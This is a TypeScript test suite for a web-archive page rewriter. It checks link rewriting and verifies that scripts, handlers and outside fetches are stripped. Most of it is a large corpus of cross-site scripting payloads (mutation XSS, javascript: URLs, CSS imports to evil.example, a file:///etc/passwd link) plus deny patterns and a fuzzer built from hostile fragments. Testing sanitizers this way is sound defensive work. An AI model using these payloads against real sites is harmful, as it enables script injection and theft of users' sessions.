import fc from 'fast-check';
import { parse, type DefaultTreeAdapterTypes as Tree } from 'parse5';
import { describe, expect, it } from 'vitest';
import { rewritePage } from './rewrite-page.ts';

const PLACE = { basePath: '/web', time: '20080430204825', url: 'http://example.org/dir/page.html' };
const WEB = '/web/20080430204825';

function rewrite(
  html: string | Buffer,
  more: { url?: string; banner?: string; contentType?: string } = {},
): string {
  return rewritePage(Buffer.from(html), { ...PLACE, contentType: 'text/html', ...more });
}

const DANGEROUS = new Set([
  ...['script', 'object', 'embed', 'applet', 'base', 'noscript', 'frame', 'plaintext', 'xmp'],
  ...['noembed', 'noframes', 'animate', 'set', 'animatetransform', 'portal'],
]);

/** All that a browser could run or fetch from elsewhere in a page, with and without scripting. */
function dangersIn(html: string): string[] {
  const found: string[] = [];
  for (const scriptingEnabled of [true, false]) {
    const walk = (node: Tree.Node): void => {
      if ('tagName' in node) found.push(...dangersOf(node));
      if ('content' in node) walk(node.content);
      if ('childNodes' in node) for (const child of node.childNodes) walk(child);
    };
    walk(parse(html, { scriptingEnabled }));
  }
  return found;
}

function dangersOf({ tagName, attrs, childNodes }: Tree.Element): string[] {
  const found = DANGEROUS.has(tagName.toLowerCase()) ? [`<${tagName}>`] : [];
  for (const { name, prefix, value } of attrs) {
    const full = prefix ? `${prefix}:${name}` : name;
    if (/^on|^(?:srcdoc|action|formaction|http-equiv|ping|manifest|data|target)$/i.test(full))
      found.push(full);
    const isLink = /^(?:href|xlink:href|src|poster|background)$/i.test(full);
    const isSafe = /^(?:\/web\/|#|mailto:|tel:|\/\?q=|data:image\/)/.test(value);
    if (isLink && !isSafe) found.push(`${tagName} ${full}=${value}`);
    if (
      full === 'srcset' &&
      value.split(', ').some((part) => !/^(?:\/web\/|data:image)/.test(part))
    )
      found.push(`srcset=${value}`);
    if (full === 'style') found.push(...cssDangersIn(value));
  }
  if (tagName === 'style') {
    const css = childNodes.map((child) => ('value' in child ? child.value : '<element>')).join('');
    found.push(...cssDangersIn(css));
  }
  return found;
}

function cssDangersIn(css: string): string[] {
  const urls = [...css.matchAll(/url\(\s*["']?([^"')]*)|@import\s+["']([^"']*)/gi)];
  const bad = urls
    .map(([, a, b]) => a ?? b ?? '')
    .filter((url) => !/^(?:\/web\/|about:invalid|data:(?:image|font|application))/.test(url));
  return [
    ...bad.map((url) => `css ${url}`),
    ...(css.includes('<element>') ? ['element in style'] : []),
  ];
}

it('dangers are seen where there are some', () => {
  expect(dangersIn('<img src=x onerror=y><svg><style><b></style></svg>').length).toBeGreaterThan(3);
  expect(dangersIn('<p style="background:url(//evil)"><a href=" javascript:x">').length).toBe(4);
  expect(dangersIn('<template><script></script></template>')).toEqual(['<script>', '<script>']);
});

describe('links of an archived page', () => {
  it.each([
    ['<a href="other.html">', `<a href="${WEB}/http://example.org/dir/other.html">`],
    ['<a href="/x?a=1&amp;b=2#top">', `<a href="${WEB}/http://example.org/x?a=1&amp;b=2#top">`],
    ['<a href="#part">', '<a href="#part">'],
    ['<a href="mailto:a@example.org">', '<a href="mailto:a@example.org">'],
    ['<a href="https://other.example/é">', `<a href="${WEB}/https://other.example/%C3%A9">`],
    [
      '<img src="a.png" alt="A &amp; B">',
      `<img src="${WEB}im_/http://example.org/dir/a.png" alt="A &amp; B">`,
    ],
    ['<img src=data:image/gif;base64,R0lGOD>', '<img src="data:image/gif;base64,R0lGOD">'],
    [
      '<img src="data:image/gif;base64,R0" data-src="big.jpg">',
      `<img src="${WEB}im_/http://example.org/dir/big.jpg" data-src="big.jpg">`,
    ],
    [
      '<img srcset="a.png 1x, b.png 2x">',
      `<img srcset="${WEB}im_/http://example.org/dir/a.png 1x, ${WEB}im_/http://example.org/dir/b.png 2x">`,
    ],
    [
      '<video poster=p.jpg src=v.mp4>',
      `<video poster="${WEB}im_/http://example.org/dir/p.jpg" src="${WEB}/http://example.org/dir/v.mp4">`,
    ],
    ['<td background="bg.gif">', `<td background="${WEB}im_/http://example.org/dir/bg.gif">`],
    [
      '<p style="background:url(b.gif)">',
      `<p style="background:url(&quot;${WEB}im_/http://example.org/dir/b.gif&quot;)">`,
    ],
    [
      '<link rel=stylesheet href=s.css media=print>',
      `<link rel="stylesheet" href="${WEB}/http://example.org/dir/s.css" media="print">`,
    ],
    [
      '<iframe src="in.html" width=5>x</iframe>',
      `<iframe sandbox="" src="${WEB}if_/http://example.org/dir/in.html" width="5"></iframe>`,
    ],
    [
      '<input type=image src=go.gif>',
      `<input type="image" src="${WEB}im_/http://example.org/dir/go.gif" disabled="">`,
    ],
    [
      '<svg><image xlink:href="i.png"/></svg>',
      `<svg><image xlink:href="${WEB}im_/http://example.org/dir/i.png" /></svg>`,
    ],
  ])('%s', (source, expected) => {
    expect(rewrite(source)).toBe(expected);
  });

  it('follow the first base element, wherever it stands, which goes', () => {
    const page =
      '<a href=a><base target=_top><base href="http://cdn.example/x/"><base href="/no/"><img src=b>';
    expect(rewrite(page)).toBe(
      `<a href="${WEB}/http://cdn.example/x/a"><img src="${WEB}im_/http://cdn.example/x/b">`,
    );
  });

  it('are read in the charset of the page', () => {
    const latin = Buffer.from('<meta charset=iso-8859-1><p title="caf\xe9">caf\xe9</p>', 'latin1');
    expect(rewrite(latin)).toBe('<p title="café">café</p>');
  });
});

describe('what an archived page keeps', () => {
  it('is its text, its markup and the rules by which it is shown', () => {
    const page =
      '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">\n<html lang=pt><body class="a b"><h1>1 &lt; 2 &amp; 3</h1><p>a < b<br/>c</p>';
    expect(rewrite(page)).toBe(
      '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">\n\n<html lang="pt"><body class="a b"><h1>1 &lt; 2 &amp; 3</h1><p>a &lt; b<br />c</p>',
    );
  });

  it('is what it shows without scripts', () => {
    expect(rewrite('<noscript><img src=a.png></noscript><script>no()</script>')).toBe(
      `<img src="${WEB}im_/http://example.org/dir/a.png">`,
    );
  });

  it('is one picture where there is one for scripts and one for browsers without', () => {
    const late = '<img src="data:image/gif;base64,R0" data-src="a.png" class=lazy>';
    const plain = '<noscript><p><img src=a.png></p></noscript>';
    const image = (more: string) => `<img src="${WEB}im_/http://example.org/dir/a.png"${more}>`;
    const shown = image(' data-src="a.png" class="lazy"');
    expect(rewrite(late + plain)).toBe(`${shown}<p></p>`);
    expect(rewrite(plain + late)).toBe(`<p>${image('')}</p>`);
    expect(rewrite(late + plain + late + plain)).toBe(`${shown}<p></p>`.repeat(2));
    // Others are not touched, nor is a picture that a page shows twice by itself.
    expect(rewrite('<img src=a.png><img src=a.png><noscript><img src=a.png></noscript>')).toBe(
      image('').repeat(3),
    );
    expect(rewrite(`${late}<noscript><img src=b.png></noscript>`)).toContain('b.png');
  });

  it('is framesets, as boxes', () => {
    const page = rewrite(
      '<frameset cols="20%,*"><frame src=menu.html><frame src=main.html></frameset><noframes>old</noframes>',
      { banner: '[B]' },
    );
    expect(page).toMatch(
      /^\[B\]<div style="display:grid;.*grid-template-columns:20% minmax\(0,1fr\)">/,
    );
    expect(page).toContain(`src="${WEB}if_/http://example.org/dir/menu.html"`);
    expect(page).not.toContain('old');
    expect(dangersIn(page)).toEqual([]);
  });

  it.each([
    ['<html><head><title>t</title></head><body id=x>text', '<body id="x">[B]text'],
    ['<title>t</title><p>text', '</title>[B]<p>text'],
    ['plain text', '[B]plain text'],
    ['<html><head><style>a{}</style></head>', '</head>[B]'],
  ])('gives way to the banner: %s', (page, expected) => {
    expect(rewrite(page, { banner: '[B]' })).toContain(expected);
  });
});

describe('what an archived page loses', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
    '<script/x>alert(1)</script >',
    '<script><!--<script></script>--></script>alert(1)',
    '<img src=x onerror=alert(1)>',
    '<img src=x:x onerror=alert(1)//>',
    '<img/src=x/onerror=alert(1)>',
    '<img src="x"onerror="alert(1)">',
    '<img \0onerror=alert(1) src=x>',
    '<img src=x ONERROR=alert(1)>',
    '<body onload=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script xlink:href=data:,alert(1) />',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
    '<math><style><img src=x onerror=alert(1)></style></math>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
    '<template shadowrootmode=open><script>alert(1)</script></template>',
    '<style></style><script>alert(1)</script>',
    '<style>a{content:"</style><script>alert(1)</script>"}',
    '<style><!--</style><img src=x onerror=alert(1)>-->',
    '<plaintext><script>alert(1)</script>',
    '<a href="javascript:alert(1)">',
    '<a href=" jav&#x09;ascript:alert(1)">',
    '<a href="&#1;javascript:alert(1)">',
    '<a href="java\nscript:alert(1)">',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">',
    '<a href="vbscript:x">',
    '<a href="data:text/html,<script>alert(1)</script>">',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">',
    '<a href="blob:http://example.org/x">',
    '<a href="file:///etc/passwd">',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
    '<svg><set attributeName=onmouseover to=alert(1)></svg>',
    '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>#x"></use></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x',
    '<base href="javascript:/a/-alert(1)//"><a href=x>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Set-Cookie" content="a=b">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<object data="javascript:alert(1)"><embed src=x.swf></object>',
    '<applet code=X></applet>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="data:text/html,x"></iframe>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x',
    '<input type=image src=javascript:alert(1) onfocus=alert(1) autofocus>',
    '<isindex action=javascript:alert(1)>',
    '<link rel=stylesheet href="javascript:alert(1)"><link rel=import href=x.html>',
    '<link rel=preload href=x.js as=script><link rel=manifest href=m.json>',
    '<td background="javascript:alert(1)">',
    '<p style="background:url(javascript:alert(1))">',
    '<p style="background:u\\72l(http://evil.example/)">',
    '<p style="background:url(&quot;http://evil.example/&quot;)">',
    '<style>@import "http://evil.example/";@\\69mport url(http://evil.example/)</style>',
    '<style>@IMPORT\nurl(  "//evil.example/x"  )</style>',
    '<img srcset="javascript:alert(1) 1x, http://evil.example/a.png 2x">',
    '<video><source onerror=alert(1) src=x></video>',
    '<audio src=javascript:alert(1)>',
    '<marquee onstart=alert(1)>',
    '<a href="http://x" target=_top ping=http://evil.example download>',
    '<div data-x="javascript:alert(1)">',
    '<a b=">"><img src=x onerror=alert(1)>',
    "<a b='\"' onclick=alert(1)>",
    '<a "onclick=alert(1)" x>',
    '<a =x onclick=alert(1)>',
    '<a href=`javascript:alert(1)`>',
    '<a foo="bar"baz onclick=alert(1)>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--a--!><img src=x onerror=alert(1)>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<select><template><script>alert(1)</script></template></select>',
    '<table><style></table><img src=x onerror=alert(1)></style>',
    '<constructor onclick=alert(1)><__proto__ onclick=alert(1)>',
    '<img src=x onerror=alert(1)',
    '</br onclick=alert(1)>',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  ])('is all that could run or lead away: %s', (page) => {
    const shown = rewrite(page);
    expect(dangersIn(shown)).toEqual([]);
    // Neither where a browser would put it into other contexts.
    for (const [before, after] of [
      ['<svg>', '</svg>'],
      ['<math><mtext>', ''],
      ['<select>', ''],
      ['<table>', ''],
      ['<template>', ''],
    ]) {
      expect(dangersIn(rewrite(`${before}${page}${after}`))).toEqual([]);
      expect(dangersIn(`${before}${shown}${after}`)).toEqual([]);
    }
  });

  it('stays lost when the page is read and written again', () => {
    const pieces = [
      ...['<svg>', '</svg>', '<math>', '</math>', '<mtext>', '<mglyph>', '<malignmark>', '<desc>'],
      ...[
        '<annotation-xml encoding=text/html>',
        '<foreignObject>',
        '<title>',
        '</title>',
        '<style>',
      ],
      ...['</style>', '<textarea>', '</textarea>', '<noscript>', '</noscript>', '<template>'],
      ...['</template>', '<script>', '</script>', '<xmp>', '</xmp>', '<iframe>', '</iframe>'],
      ...['<noframes>', '</noframes>', '<noembed>', '</noembed>', '<plaintext>', '<select>'],
      ...['</select>', '<table>', '<tr>', '<td>', '</table>', '<form>', '</form>', '<p>', '</p>'],
      ...[
        '<img src=x onerror=alert(1)>',
        '<a href=javascript:alert(1)>',
        '</a>',
        '<body onload=x>',
      ],
      ...[
        '<p title="',
        '">',
        "'>",
        '>',
        '<',
        '"',
        "'",
        '`',
        '&lt;',
        '&gt;',
        '&quot;',
        '\\',
        '/*',
        '*/',
      ],
      ...[
        '<!--',
        '-->',
        '--!>',
        '<![CDATA[',
        ']]>',
        '<!',
        '<?',
        '</',
        '/>',
        '\0',
        '\n',
        '=',
        ' on=x ',
      ],
      ...[
        'url(',
        ')',
        '@import ',
        'content:',
        '{',
        '}',
        '<base href=//evil.example>',
        '&#60;',
        'x',
      ],
      ...[
        '<frameset>',
        '<frame src=javascript:x>',
        '<object>',
        '</object>',
        '<option>',
        '<br>',
        '<h1>',
      ],
      ...[
        '<img src="</style><img src=x onerror=alert(1)//">',
        '<use href=data:,x>',
        '<image href=x>',
      ],
    ];
    const page = fc
      .array(fc.constantFrom(...pieces), { maxLength: 14 })
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(page, (source) => {
        const shown = rewrite(source);
        expect(dangersIn(shown)).toEqual([]);
        expect(dangersIn(rewrite(shown))).toEqual([]);
      }),
      { numRuns: 600 },
    );
  });

  it('takes linear time, whatever the page', () => {
    const shapes = [
      '<',
      '<a ',
      '<style>',
      '<style>url(',
      '<p style="url(',
      '</',
      '<!--',
      '<title>',
      '&',
      '<a b="&amp',
      '"',
      '<svg>',
      'url(',
      '<base href=x>',
      '<img srcset="a,',
      '\\',
    ];
    for (const shape of shapes) {
      const started = process.cpuUsage().user; // others may keep the machine busy
      rewrite(shape.repeat(400_000 / shape.length));
      expect(process.cpuUsage().user - started, shape).toBeLessThan(1_000_000);
    }
  });
});
